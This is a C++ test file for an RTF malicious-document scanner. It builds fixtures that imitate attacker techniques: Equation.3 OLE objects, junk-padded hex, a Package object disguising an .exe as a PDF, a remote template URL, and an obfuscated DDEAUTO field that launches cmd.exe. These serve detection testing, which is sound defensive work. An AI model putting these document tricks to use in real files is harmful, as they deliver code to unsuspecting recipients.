// The RTF scanner on documents built here: objects with their class and native data, hex with
// the junk exploits put in it, \bin, templates, and the bounds (depth, count, size).
#include "objects/rtf/rtf.h"

#include <gtest/gtest.h>

#include "objects/rtf/rtf_test_writer.h"

namespace vigie::objects::rtf {
namespace {

using namespace testing;
using namespace std::string_literals;

const std::string kNative = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"s + std::string(40, 'E');

TEST(RtfScannerTest, AnEquationObjectWithItsClassAndNativeData) {
  const std::string rtf =
      document("\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata " + hex(ole1("Equation.3", kNative)) + "}");
  const RtfScan scan = scan_rtf(rtf, Limits{});
  ASSERT_TRUE(scan.rtf);
  ASSERT_EQ(scan.objects.size(), 1u);
  const OleObject& o = scan.objects[0];
  EXPECT_EQ(o.class_name, "Equation.3");
  EXPECT_EQ(o.header_class, "Equation.3");
  EXPECT_EQ(o.format_id, 2u);
  EXPECT_TRUE(o.auto_update);
  ASSERT_NE(o.native_data, nullptr);
  EXPECT_EQ(*o.native_data, kNative);
  EXPECT_EQ(o.hex_junk, 0u);
  EXPECT_FALSE(o.binary);
  EXPECT_TRUE(scan.limits.empty());
}

TEST(RtfScannerTest, JunkGroupsAndBytesInsideTheHexAreSkippedAsWordDoes) {
  std::string digits = hex(ole1("Equation.3", kNative), 0);
  // An ignorable group, a control word, stray characters and spaces between the digits.
  digits.insert(20, "{\\*\\pwnd 4141}");
  digits.insert(10, " \\dfrxst ");
  digits.insert(6, "\t\r\n  ");
  digits.insert(4, "zz");
  const RtfScan scan = scan_rtf(document("{\\*\\objdata " + digits + "}"), Limits{});
  ASSERT_EQ(scan.objects.size(), 1u);
  EXPECT_EQ(scan.objects[0].header_class, "Equation.3");
  EXPECT_EQ(scan.objects[0].class_name, "Equation.3");  // no \objclass: the header's
  ASSERT_NE(scan.objects[0].native_data, nullptr);
  EXPECT_EQ(*scan.objects[0].native_data, kNative);
  EXPECT_EQ(scan.objects[0].hex_junk, 2u);
}

TEST(RtfScannerTest, BinInsideObjdataAndOverlongControlWords) {
  const std::string data = ole1("Package", package("facture.pdf.exe", "C:\\t\\facture.pdf.exe", "MZ payload"));
  const std::string rtf = document("{\\*\\objdata \\bin" + std::to_string(data.size()) + " " + data + "}") +
                          "{\\" + std::string(40, 'a') + " x}";
  const RtfScan scan = scan_rtf(rtf, Limits{});
  ASSERT_EQ(scan.objects.size(), 1u);
  const OleObject& o = scan.objects[0];
  EXPECT_TRUE(o.binary);
  EXPECT_EQ(o.class_name, "Package");
  EXPECT_EQ(o.package_label, "facture.pdf.exe");
  EXPECT_EQ(o.package_path, "C:\\t\\facture.pdf.exe");
  ASSERT_NE(o.package_data, nullptr);
  EXPECT_EQ(*o.package_data, "MZ payload");
  EXPECT_EQ(scan.overlong_control_words, 1u);
}

TEST(RtfScannerTest, ARemoteTemplate) {
  const RtfScan scan =
      scan_rtf("{\\rtf1{\\*\\template http://198.51.100.4/t.dotm}\\pard Bonjour\\par}", Limits{});
  ASSERT_EQ(scan.templates.size(), 1u);
  EXPECT_EQ(scan.templates[0], "http://198.51.100.4/t.dotm");
  EXPECT_TRUE(scan.objects.empty());
}

// {\field{\*\fldinst {\field{\*\fldinst QUOTE 68 ...}{\fldrslt DDEAUTO}} c:\\...}{\fldrslt}}: the
// inner QUOTE builds the outer keyword; the results Word last displayed are not instructions.
TEST(RtfScannerTest, FieldInstructionsNestedAsWordEvaluatesThem) {
  const RtfScan scan = scan_rtf(
      "{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE 68 68 69 65 85 84 79 }{\\fldrslt DDEAUTO}}"
      " c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"}{\\fldrslt }}"
      "{\\field{\\*\\fldinst PAGE }{\\fldrslt 1}}\\par}",
      Limits{});
  ASSERT_EQ(scan.fields.size(), 3u);
  EXPECT_EQ(scan.fields[0].instruction, "QUOTE 68 68 69 65 85 84 79 ");
  EXPECT_EQ(scan.fields[1].instruction, "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\"");
  EXPECT_TRUE(scan.fields[1].assembled);
  EXPECT_EQ(scan.fields[2].instruction, "PAGE ");
  EXPECT_FALSE(scan.fields[2].assembled);
}

TEST(RtfScannerTest, WordChecksOnlyTheFirstFourBytes) {
  EXPECT_TRUE(scan_rtf("{\\rtvpn{\\object{\\*\\objdata 0102}}}", Limits{}).rtf);
  EXPECT_FALSE(scan_rtf("{\\urtf1}", Limits{}).rtf);
  EXPECT_FALSE(scan_rtf("", Limits{}).rtf);
}

TEST(RtfScannerTest, DepthIsBoundedAndCounted) {
  Limits limits;
  limits.max_rtf_depth = 16;
  std::string deep = "{\\rtf1";
  for (int i = 0; i < 5000; ++i) deep += '{';
  deep += "{\\object{\\*\\objdata " + hex(ole1("Equation.3", kNative)) + "}}";
  for (int i = 0; i < 5000; ++i) deep += '}';
  deep += "}";
  const RtfScan scan = scan_rtf(deep, limits);
  EXPECT_GE(scan.max_depth, 5000u);
  ASSERT_EQ(scan.limits.size(), 1u);
  EXPECT_EQ(scan.limits[0].limit, "max_rtf_depth");
  EXPECT_EQ(scan.limits[0].allowed, 16u);
  // The object deep inside is still found: deeper groups share their parent's state.
  ASSERT_EQ(scan.objects.size(), 1u);
  EXPECT_EQ(scan.objects[0].header_class, "Equation.3");
  EXPECT_EQ(scan.unbalanced_groups, 0u);
}

TEST(RtfScannerTest, ObjectCountAndSizeAreBounded) {
  Limits limits;
  limits.max_rtf_objects = 2;
  limits.max_rtf_object_bytes = 16;
  std::string rtf = "{\\rtf1";
  for (int i = 0; i < 5; ++i) rtf += "{\\object{\\*\\objdata " + hex(ole1("Equation.3", kNative)) + "}}";
  rtf += "}";
  const RtfScan scan = scan_rtf(rtf, limits);
  EXPECT_EQ(scan.objects.size(), 2u);
  for (const OleObject& o : scan.objects) {
    EXPECT_TRUE(o.data_truncated);
    ASSERT_NE(o.native_data, nullptr);  // 16 bytes are no OLE1 object: kept as they are
    EXPECT_EQ(o.native_data->size(), 16u);
  }
  ASSERT_EQ(scan.limits.size(), 2u);
  EXPECT_EQ(scan.limits[0].limit, "max_rtf_object_bytes");
  EXPECT_EQ(scan.limits[1].limit, "max_rtf_objects");
  EXPECT_EQ(scan.limits[1].observed, 5u);
}

TEST(RtfScannerTest, Ole1HeaderThatLies) {
  OleObject o;
  std::string data = ole1("Equation.3", kNative);
  data[8] = '\xFF';  // class name length beyond the data
  EXPECT_FALSE(read_ole1(data, o));
  OleObject p;
  std::string big = ole1("Equation.3", "abc");
  big[big.size() - 4 - 1] = '\x7F';  // native size far beyond the data: what is there is kept
  ASSERT_TRUE(read_ole1(big, p));
  EXPECT_EQ(*p.native_data, "abc");
}

}  // namespace
}  // namespace vigie::objects::rtf
